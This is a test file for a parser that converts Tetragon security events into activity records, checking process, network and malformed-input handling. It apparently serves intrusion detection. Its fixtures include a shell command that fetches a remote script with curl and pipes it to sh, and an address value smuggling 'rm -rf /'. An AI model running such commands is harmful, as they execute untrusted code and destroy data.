import test from 'ava';
import { readFileSync } from 'node:fs';
import { isRejected, type ParseResult } from '../../agent/sources/record.js';
import { parseTetragonLine, splitTetragonArguments, tetragonRecordToEvent } from '../../agent/sources/tetragon-event.js';
import type { ActivityEvent } from '../../core/event.js';

const ctx = { node: 'node-1', source: 'test' };
const FIXTURE = new URL('../../../fixtures/tetragon/events.jsonl', import.meta.url);
const lines = readFileSync(FIXTURE, 'utf8').trim().split('\n');

function ok(r: ParseResult): ActivityEvent {
  if (isRejected(r)) throw new Error(`rejected: ${r.reject} ${r.detail}`);
  return r;
}

const NGINX_CONTAINER = {
  id: '3ad7b26ded6d',
  name: 'nginx',
  image: { repository: 'docker.io/library/nginx', tag: '1.25.3', digest: 'sha256:4c0fdaa8b6341bfdeca5f18f7837462c80cff90527ee35ef185571e1c327beac' },
};

test('process_exec in a pod: image, pod, workload, exe, quoted argument, parent', (t) => {
  const ev = ok(parseTetragonLine(lines[0]!, ctx));
  t.is(ev.kind, 'exec');
  t.is(ev.time, Date.UTC(2026, 10, 23, 8, 0, 0, 123));
  t.deepEqual(ev.container, NGINX_CONTAINER);
  t.deepEqual(ev.pod, { namespace: 'shop', name: 'web-7d9f8c6b5-x2kqz', labels: { app: 'web', 'pod-template-hash': '7d9f8c6b5' }, workload: 'Deployment/web' });
  t.deepEqual(ev.process, { pid: 4242, exe: '/usr/sbin/nginx', name: 'nginx', args: ['-g', 'daemon', 'off;'], parentExe: '/usr/bin/containerd-shim-runc-v2', parentName: 'containerd-shim', uid: 0, user: '' });
  t.is(ev.network, null);
});

test('listen, accept (socket in return), IPv4 and IPv6 connects; tcp_close and process_exit are unsupported', (t) => {
  const listen = ok(parseTetragonLine(lines[1]!, ctx));
  t.is(listen.kind, 'listen');
  t.deepEqual(listen.network, { protocol: 'tcp', localAddress: '0.0.0.0', localPort: 80, remoteAddress: '', remotePort: -1, remoteName: '' });
  const accept = ok(parseTetragonLine(lines[2]!, ctx));
  t.is(accept.kind, 'accept');
  t.deepEqual(accept.network, { protocol: 'tcp', localAddress: '10.244.2.3', localPort: 80, remoteAddress: '10.244.1.7', remotePort: 43512, remoteName: '' });
  const connect = ok(parseTetragonLine(lines[3]!, ctx));
  t.is(connect.kind, 'connect');
  t.deepEqual(connect.network, { protocol: 'tcp', localAddress: '10.244.2.3', localPort: 51234, remoteAddress: '10.96.0.10', remotePort: 8080, remoteName: '' });
  t.is(connect.time, Date.UTC(2026, 10, 23, 8, 2, 0, 0));
  const close = parseTetragonLine(lines[4]!, ctx);
  t.true(isRejected(close) && close.reject === 'unsupported');
  const v6 = ok(parseTetragonLine(lines[5]!, ctx));
  t.is(v6.network?.remoteAddress, '2001:db8::50');
  t.is(v6.network?.remotePort, 443);
  const exit = parseTetragonLine(lines[9]!, ctx);
  t.true(isRejected(exit) && exit.reject === 'unsupported');
});

test('a shell with a quoted -c script under a user, then its curl connecting out', (t) => {
  const sh = ok(parseTetragonLine(lines[6]!, ctx));
  // The quoted script is unquoted, then split at whitespace like every source's arguments (core/event.ts).
  t.deepEqual(sh.process.args, ['-c', 'curl', '-s', 'http://203.0.113.50/x.sh', '|', 'sh']);
  t.is(sh.process.parentExe, '/usr/sbin/nginx');
  t.is(sh.process.uid, 101);
  t.is(sh.process.user, 'nginx');
  const connect = ok(parseTetragonLine(lines[8]!, ctx));
  t.is(connect.process.exe, '/usr/bin/curl');
  t.is(connect.network?.remoteAddress, '203.0.113.50');
  t.is(connect.network?.remotePort, 80);
  t.is(connect.container?.image.repository, 'docker.io/library/nginx');
});

test('a host process has no container; an unresolved pod keeps the docker id for attribution', (t) => {
  const host = ok(parseTetragonLine(lines[10]!, ctx));
  t.is(host.container, null);
  t.is(host.pod, null);
  t.is(host.process.exe, '/usr/sbin/logrotate');
  const early = ok(parseTetragonLine(lines[11]!, ctx));
  t.deepEqual(early.container, { id: '9f1c2e3d4b5a', name: '', image: { repository: '', tag: '', digest: '' } });
  t.is(early.pod, null);
  t.deepEqual(early.process.args, []);
  t.is(early.time, Date.UTC(2026, 10, 23, 11, 5, 0, 0));
});

test('the gRPC shape (wrapped integers, Timestamp) gives the same event as the JSON', (t) => {
  const json = JSON.parse(lines[3]!) as Record<string, any>;
  const kp = json.process_kprobe;
  const grpc = {
    event: 'process_kprobe',
    process_kprobe: { ...kp, process: { ...kp.process, pid: { value: kp.process.pid }, uid: {}, tid: { value: kp.process.pid } } },
    node_name: json.node_name,
    time: { seconds: String(Date.UTC(2026, 10, 23, 8, 2, 0) / 1000), nanos: 1000 },
  };
  t.deepEqual(ok(tetragonRecordToEvent(grpc, ctx)), ok(parseTetragonLine(lines[3]!, ctx)));
});

const UDP = readFileSync(new URL('../../../fixtures/tetragon/udp.jsonl', import.meta.url), 'utf8').trim().split('\n');
const API_CONTAINER = {
  id: '7e3f09c4b21a',
  name: 'api',
  image: { repository: 'registry.example.com/shop/api', tag: '2.4.1', digest: 'sha256:9b2e61c5a0d34f7e8c1b2a3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f6a7b' },
};

test('UDP sends: the peer from msg_name (sockaddr_arg) when unconnected, from the socket when connected', (t) => {
  const unconnected = ok(parseTetragonLine(UDP[1]!, ctx));
  t.is(unconnected.kind, 'connect');
  t.deepEqual(unconnected.container, API_CONTAINER);
  t.like(unconnected.pod, { namespace: 'shop', name: 'api-6b8d9c7f4-q7wzp', workload: 'Deployment/api' });
  t.like(unconnected.process, { pid: 5120, exe: '/app/api', uid: 1000 });
  t.deepEqual(unconnected.network, { protocol: 'udp', localAddress: '0.0.0.0', localPort: 48123, remoteAddress: '10.96.0.10', remotePort: 53, remoteName: '' });
  t.is(unconnected.time, Date.UTC(2026, 10, 23, 8, 0, 1, 204));
  const connected = ok(parseTetragonLine(UDP[2]!, ctx));
  t.deepEqual(connected.network, { protocol: 'udp', localAddress: '10.244.2.9', localPort: 39811, remoteAddress: '10.96.0.10', remotePort: 53, remoteName: '' });
  const v6 = ok(parseTetragonLine(UDP[3]!, ctx));
  t.deepEqual(v6.network, { protocol: 'udp', localAddress: '::', localPort: 53817, remoteAddress: '2001:db8::35', remotePort: 53, remoteName: '' });
  // An IPv6 socket sending to an IPv4-mapped address: both hooks fire, naming the same peer.
  const mapped = ok(parseTetragonLine(UDP[4]!, ctx));
  const inner = ok(parseTetragonLine(UDP[5]!, ctx));
  t.is(mapped.network?.remoteAddress, '::ffff:203.0.113.7');
  t.is(inner.network?.remoteAddress, '203.0.113.7');
  t.is(mapped.network?.remotePort, 123);
  t.is(inner.network?.remotePort, 123);
});

test('UDP sends: UDP-Lite is unsupported; a host process on a connected socket without sockaddr_arg is a host event', (t) => {
  const lite = parseTetragonLine(UDP[6]!, ctx);
  t.true(isRejected(lite) && lite.reject === 'unsupported' && /UDPLITE/.test(lite.detail));
  const host = ok(parseTetragonLine(UDP[7]!, ctx));
  t.is(host.container, null);
  t.is(host.process.exe, '/usr/sbin/chronyd');
  t.deepEqual(host.network, { protocol: 'udp', localAddress: '192.168.10.21', localPort: 52011, remoteAddress: '192.0.2.123', remotePort: 123, remoteName: '' });
});

test('UDP sends: hostile or peerless sockaddr_arg / sock_arg are rejected with a reason', (t) => {
  const base = JSON.parse(UDP[1]!) as Record<string, any>;
  const withArgs = (args: unknown) => JSON.stringify({ ...base, process_kprobe: { ...base.process_kprobe, args } });
  const sock = base.process_kprobe.args[0];
  const reasons = [
    withArgs([sock]), // unconnected, and no destination named
    withArgs([sock, { sockaddr_arg: { family: 'AF_UNSPEC', addr: 'invalid IP' } }]), // likewise
    withArgs([sock, { sockaddr_arg: { family: 'AF_INET', addr: '10.0.0.1; rm -rf /', port: 53 } }]),
    withArgs([sock, { sockaddr_arg: { family: 'AF_INET', addr: '10.0.0.1' } }]), // no port
    withArgs([sock, { sockaddr_arg: { family: 'AF_INET', addr: '10.0.0.1', port: 70000 } }]),
    withArgs([sock, { sockaddr_arg: 'AF_INET 10.0.0.1:53' }]),
    withArgs([{ sockaddr_arg: { family: 'AF_INET', addr: '10.0.0.1', port: 53 } }]), // no socket
    withArgs([{ sock_arg: { ...sock.sock_arg, family: 'AF_UNIX' } }, { sockaddr_arg: { family: 'AF_INET', addr: '10.0.0.1', port: 53 } }]),
    withArgs([{ sock_arg: { ...sock.sock_arg, daddr: 'x'.repeat(10_000), dport: 53 } }]),
  ].map((l) => {
    const r = parseTetragonLine(l, ctx);
    return isRejected(r) ? r.reject : 'accepted';
  });
  t.deepEqual(reasons, ['missing_field', 'missing_field', 'bad_address', 'missing_field', 'wrong_type', 'wrong_type', 'missing_field', 'unsupported', 'bad_address']);
});

test('hostile records are rejected with a reason, never thrown', (t) => {
  const reasons = [
    'not json',
    '[]',
    '{"time":"2026-11-23T08:00:00Z"}',
    '{"process_exec":{"process":{"binary":5}},"time":"2026-11-23T08:00:00Z"}',
    '{"process_exec":{"process":{"binary":"/bin/x","pid":-3}},"time":"2026-11-23T08:00:00Z"}',
    '{"process_exec":{"process":{"binary":"/bin/x"}},"time":"yesterday"}',
    '{"process_exec":{"process":{"binary":"/bin/x"}},"time":{"seconds":"1e99"}}',
    '{"process_exec":{},"time":"2026-11-23T08:00:00Z"}',
    '{"process_kprobe":{"function_name":"tcp_connect","process":{"binary":"/bin/x"},"args":{}},"time":"2026-11-23T08:00:00Z"}',
    '{"process_kprobe":{"function_name":"tcp_connect","process":{"binary":"/bin/x"},"args":[{"sock_arg":{"daddr":"1.2.3.4"}}]},"time":"2026-11-23T08:00:00Z"}',
    '{"process_kprobe":{"function_name":"tcp_connect","process":{"binary":"/bin/x"},"args":[{"sock_arg":{"family":"AF_UNIX"}}]},"time":"2026-11-23T08:00:00Z"}',
    '{"process_kprobe":{"function_name":"constructor","process":{"binary":"/bin/x"}},"time":"2026-11-23T08:00:00Z"}',
  ].map((l) => {
    const r = parseTetragonLine(l, ctx);
    return isRejected(r) ? r.reject : 'accepted';
  });
  t.deepEqual(reasons, ['not_json', 'not_object', 'unsupported', 'wrong_type', 'wrong_type', 'bad_time', 'bad_time', 'missing_field', 'wrong_type', 'missing_field', 'unsupported', 'unsupported']);
});

test('long values are bounded', (t) => {
  const rec = JSON.parse(lines[0]!) as Record<string, any>;
  rec.process_exec.process.binary = `/${'a'.repeat(100_000)}`;
  rec.process_exec.process.arguments = Array.from({ length: 5000 }, (_, i) => `a${i}`).join(' ');
  const ev = ok(tetragonRecordToEvent(rec, ctx));
  t.true(ev.process.exe.length <= 4096);
  t.is(ev.process.args.length, 256);
});

test('splitting Tetragon arguments', (t) => {
  t.deepEqual(splitTetragonArguments(''), []);
  t.deepEqual(splitTetragonArguments(' "a b" c'), ['a b', 'c']);
  t.deepEqual(splitTetragonArguments('x "unterminated y'), ['x', 'unterminated y']);
  t.deepEqual(splitTetragonArguments('-c "echo hi" --  z'), ['-c', 'echo hi', '--', 'z']);
});
